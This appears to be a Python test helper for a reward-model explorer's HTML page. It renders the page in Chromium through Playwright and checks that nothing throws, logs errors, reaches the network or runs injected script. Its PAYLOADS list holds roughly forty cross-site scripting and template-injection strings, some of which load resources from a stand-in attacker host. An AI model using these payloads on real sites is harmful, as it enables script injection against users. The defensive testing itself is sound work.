"""Opens the explorer's page in Chromium, and keeps what should not happen there."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
from playwright.sync_api import Page

from rmlab import explorer
from rmlab.audit import TRANSFORMS, robustness, transform_of
from rmlab.data import PreferencePair, pair_ids
from rmlab.evaluation import evaluate
from rmlab.explorer import ExplorerState
from rmlab.explorer.optimise_columns import optimise_columns
from rmlab.explorer.page import render_page
from rmlab.explorer.presets import NUMBERS
from rmlab.explorer.score_sources import as_pairs
from rmlab.optimization import CAREFUL_WRITERS, score_replies
from rmlab.simulate.replies import FLATTERED, load_questions, reply_distribution
from rmlab.training import HeldOutEvaluation, History, TrainingConfig, TrainingStep

VIEWS = ("path", "curve", "probe", "pairs", "film", "head", "compare", "optimise", "robustness")

# Each tries to run `window.ran = 1` or to load something, in one of the ways in which markup does.
PAYLOADS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<!--<script>window.ran = 1</script>-->",
    "--><script>window.ran = 1</script>",
    "]]><script>window.ran = 1</script>",
    "<ScRiPt>window.ran = 1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.example/x.png>",
    '"><img src=x onerror="window.ran=1">',
    "'><img src=x onerror='window.ran=1'>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "</text></svg><svg onload=window.ran=1>",
    "<math><mtext><img src=x onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href=javascript:window.ran=1>a link</a>",
    "javascript:window.ran=1",
    "<form action=javascript:window.ran=1><input type=submit autofocus onfocus=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<object data=javascript:window.ran=1></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "`${window.ran=1}`",
    "<%= window.ran = 1 %>",
    "[[${window.ran=1}]]",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "__proto__",
    "\u2028window.ran=1;\u2029</script\u2028>",
    "\u202e<script>window.ran=1</script>",
)


PATIENCE = 30  # seconds that a busy machine may take


def until(condition: Callable[[], Any]) -> None:
    """Wait until something is so: what a page, or the kernel's state, comes to a moment after what was done."""
    end = time.monotonic() + PATIENCE
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.05)


WORDS = ["river", "castle", "train", "soup", "garden", "letter"]


def some_pairs(n: int) -> tuple[np.ndarray, list[PreferencePair]]:
    rng = np.random.default_rng(0)
    pairs = [
        PreferencePair(
            f"Prompt {i}: {WORDS[i % 6]}?", "good " * int(a), "bad " * int(b), group=["first", "second"][i % 2]
        )
        for i, (a, b) in enumerate(rng.integers(1, 30, (n, 2)))
    ]
    return rng.normal(0.5, 2, n).round(3), pairs


def a_film(n_frames: int, n_pairs: int, **options) -> explorer.Explorer:
    rng = np.random.default_rng(1)
    final = rng.normal(1, 1, n_pairs)
    frames = [final * i / max(1, n_frames - 1) for i in range(n_frames)]
    evaluations = tuple(HeldOutEvaluation(5 * i, evaluate(d), d) for i, d in enumerate(frames))
    steps = tuple(
        TrainingStep(i + 1, 1.0, 16, 0.7 - 0.01 * i, 0.5, 0.0, 1.0, 1e-4, 99, 1.0, evaluations if i == 0 else ())
        for i in range(5 * n_frames)
    )
    ids = tuple(pair_ids(as_pairs(options.get("pairs", []))))
    return explorer.film(History(steps, TrainingConfig(), 16, {}, {}, "padded", None, (), ids), **options)


@cache
def a_proxy() -> dict[str, Any]:
    """What Optimise shows of one judge on two questions."""
    asked = load_questions(fresh=True)[:2]
    replies = [reply_distribution(one, policy=CAREFUL_WRITERS, n_wordings=1) for one in asked]
    return optimise_columns(replies, {"judge": score_replies(FLATTERED, replies)})


def every_view(
    differences: np.ndarray, pairs: list[PreferencePair], names: tuple[str, str] = ("A", "B"), **traits: Any
) -> explorer.Explorer:
    """All views, linked, with presets and recorded scores."""
    shown = explorer.compare(differences, -differences, pairs, names=names)
    head = explorer.head_outputs([3, 1, 2], 0.1, [pairs[i].prompt for i in range(3)])  # type: ignore[arg-type]
    data = shown.data | a_film(3, len(pairs), pairs=pairs, head=head).data
    data |= explorer.pairs(differences, pairs).data | explorer.probe().data | a_robustness(pairs, names[0]).data
    data["optimise"] = a_proxy() | {
        "proxies": [{"name": names[0], "members": 0}],
        "questions": [
            {
                **each,
                "prompt": pairs[0].prompt,
                "replies": [{**reply, "text": pairs[0].chosen} for reply in each["replies"]],
            }
            for each in a_proxy()["questions"]
        ],
    }
    for name, value in ({"presets": NUMBERS} | traits).items():
        setattr(shown.state, name, value)
    return explorer.Explorer(shown.state, VIEWS, data)


def a_robustness(pairs: list[PreferencePair], name: str = "A") -> explorer.Explorer:
    """An audit of three changes: one that is found, one of the prompt, one that applies to nothing."""

    def shout(prompt: str, response: str) -> str:
        return f"{response}, {name}!"

    shouted = replace(transform_of(shout), name=name, reason=name, source=name)
    opinion = next(each for each in TRANSFORMS if each.name == "user's opinion")
    nothing = replace(transform_of(lambda prompt, response: None), name="nothing")

    def score(prompts: Sequence[str], responses: Sequence[str]) -> list[float]:
        return [len(p) * len(r) % 7 + r.endswith("!") for p, r in zip(prompts, responses, strict=True)]

    return explorer.robustness(robustness(score, pairs, [shouted, opinion, nothing]))


class Opened:
    """A page of the explorer, and what went wrong on it."""

    def __init__(self, page: Page):
        self.page = page
        self.wrong: list[str] = []
        self.listeners: dict[Any, Any] = {
            "pageerror": lambda error: self.wrong.append(f"thrown: {error}"),
            "console": lambda said: self.wrong.append(said.text) if said.type in ("error", "warning") else None,
            "dialog": lambda dialog: (self.wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()),
            "request": lambda request: self._note(request.url),
        }
        for event, listener in self.listeners.items():
            page.on(event, listener)

    def _note(self, url: str) -> None:
        if not url.startswith(("file:", "data:", "blob:", "http://127.0.0.1:")):
            self.wrong.append(f"asked for {url}")

    def show(
        self,
        folder: Path,
        state: ExplorerState,
        views: Sequence[str] = ("curve",),
        data: Mapping[str, Any] | None = None,
        *,
        title: str = "a test",
        link: str = "",
        live: str = "",
    ) -> None:
        """Write the page as a file and open it."""
        file = folder / "explorer.html"
        file.write_text(render_page(state, views, data or {}, title=title, live=live), encoding="utf-8")
        self.page.goto("about:blank")  # a new address with the same file would only move to another fragment
        self.page.goto(file.as_uri() + link)

    def check(self) -> None:
        """Nothing was thrown, said on the console, asked of the network, or run."""
        assert not self.wrong, self.wrong
        assert self.page.evaluate("window.ran") is None


@contextmanager
def opening(page: Page) -> Iterator[Opened]:
    """Open one test's files in a page that others use before and after, and check at its end."""
    page.goto("about:blank")
    opened = Opened(page)
    try:
        yield opened
        opened.check()
    finally:
        for event, listener in opened.listeners.items():
            page.remove_listener(event, listener)
